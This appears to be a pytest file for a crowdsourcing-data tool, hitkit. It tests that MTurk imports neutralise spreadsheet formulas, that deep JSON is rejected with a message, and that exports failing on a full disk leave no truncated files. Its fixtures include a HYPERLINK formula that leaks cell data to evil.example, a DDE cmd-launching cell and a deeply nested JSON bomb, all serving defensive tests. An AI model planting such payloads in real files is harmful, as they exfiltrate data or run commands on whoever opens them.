"""Files hitkit writes from hostile or failing input: ``hitkit import mturk`` makes every text cell
inert for spreadsheets and refuses deep JSON with a message; an export that fails half-way (a full
disk) leaves the previous file or none, never a truncated one."""

from __future__ import annotations

import errno

import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from hitkit.cli import main
from hitkit.db.session import session_scope
from hitkit.errors import WriteError
from hitkit.imports.mturk import import_mturk
from hitkit.study.stored import StudyContext, resolve_secret
from hitkit.tables.cells import FORMULA_TRIGGERS
from tests.test_import_mturk import write_batch, write_mapping

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _pairwise_mapping(tmp_path):
    return write_mapping(
        tmp_path,
        {
            "task": "pairwise",
            "flatten": [],
            "pairwise": {
                "items": 1,
                "item_id": "Input.item{i}",
                "system_a": "Input.left{i}",
                "system_b": "Input.right{i}",
                "vote": "Answer.choice{i}",
                "votes": {"left": "a", "right": "b", "same": "tie"},
                "systems": {"bot1": "alpha", "bot2": "beta"},
            },
        },
    )


def test_import_mturk_writes_no_cell_that_starts_a_formula(tmp_path):
    batch = write_batch(
        tmp_path,
        [
            {
                "AssignmentId": HOSTILE,
                "HITId": "+cmd|' /C calc'!A0",
                "WorkerId": "AWORKERONE",
                "Input.item0": "@SUM(1+1)",
                "Input.left0": "bot1",
                "Input.right0": "bot2",
                "Answer.choice0": "left",
            },
            {
                "AssignmentId": "A2",
                "HITId": "-2+3",
                "WorkerId": "AWORKERTWO",
                "Input.item0": "p1",
                "Input.left0": "bot2",
                "Input.right0": "bot1",
                "Answer.choice0": "right",
            },
        ],
    )
    import_mturk(batch, _pairwise_mapping(tmp_path), "old-ab", tmp_path / "out")
    for name in ("assignments", "votes"):
        table = pd.read_csv(tmp_path / "out" / f"{name}.csv", dtype=str, keep_default_na=False)
        cells = [c for column in table.columns for c in table[column]]
        assert cells
        starting = [c for c in cells if c[:1] in FORMULA_TRIGGERS]
        assert starting == [], (name, starting)
        assert f"'{HOSTILE}" in set(table["assignment_id"])
    votes = pd.read_csv(tmp_path / "out" / "votes.csv", dtype=str, keep_default_na=False)
    assert set(votes["item_id"]) == {"'@SUM(1+1)", "p1"} and "'-2+3" in set(votes["hit_id"])


def test_import_mturk_refuses_deep_json_answers_with_a_message_not_a_traceback(tmp_path):
    deep = "[" * 30_000 + "]" * 30_000
    batch = write_batch(
        tmp_path,
        [
            {
                "AssignmentId": "A1",
                "WorkerId": "AWORKERONE",
                "Answer.taskAnswers": deep,
                "Input.item0": "p1",
                "Input.left0": "bot1",
                "Input.right0": "bot2",
                "Answer.choice0": "left",
            }
        ],
    )
    mapping = _pairwise_mapping(tmp_path)
    spec = yaml.safe_load(mapping.read_text())
    spec["flatten"] = ["Answer.taskAnswers"]
    mapping.write_text(yaml.safe_dump(spec))
    result = CliRunner().invoke(
        main, ["import", "mturk", str(batch), "--mapping", str(mapping), "--study", "x", "--out", str(tmp_path / "out")]
    )
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and not isinstance(result.exception, RecursionError)
    assert "Answer.taskAnswers" in result.output and "nested more than 32" in result.output
    assert "line 2" in result.output
    assert not (tmp_path / "out" / "assignments.csv").exists()


def _export(database_url, out):
    from hitkit.tables.export import export_study

    with session_scope(database_url) as s:
        return export_study(s, StudyContext.load(s, "ab-demo", resolve_secret(database_url)), out, "both")


def _full_disk_after(monkeypatch, kept: int):
    """Every CSV write from now on stops after ``kept`` bytes with ENOSPC, as a full disk does."""
    real = pd.DataFrame.to_csv

    def to_csv(self, path=None, *args, **kwargs):
        text = real(self, None, *args, **kwargs)
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(text[:kept])
            fh.flush()
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(pd.DataFrame, "to_csv", to_csv)


def test_an_export_that_fails_half_way_leaves_the_previous_files_or_none(tmp_path, one_database_url, monkeypatch):
    from hitkit.study.loading import load_study
    from hitkit.study.stored import create_study
    from tests.test_provider_panel import (
        panel_study,  # any study with rows: a panel one is quick to fill
    )

    path = panel_study(tmp_path, one_database_url)
    with session_scope(one_database_url) as s:
        create_study(s, load_study(path), path, resolve_secret(one_database_url))
    out = tmp_path / "export"
    _export(one_database_url, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert "assignments.csv" in before and "study.json" in before

    with monkeypatch.context() as m:
        _full_disk_after(m, 20)
        with pytest.raises(WriteError, match="the disk is full"):  # one line naming the file, no traceback
            _export(one_database_url, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # nothing truncated, no temporary left

    fresh = tmp_path / "fresh"
    with monkeypatch.context() as m:
        _full_disk_after(m, 20)
        with pytest.raises(WriteError):
            _export(one_database_url, fresh)
    assert [p.name for p in fresh.iterdir()] == []  # none, rather than a short file that parses

    def failing_dump(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("hitkit.tables.export.json.dumps", failing_dump)  # conversations.jsonl, study.json
    with pytest.raises((OSError, WriteError)):
        _export(one_database_url, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
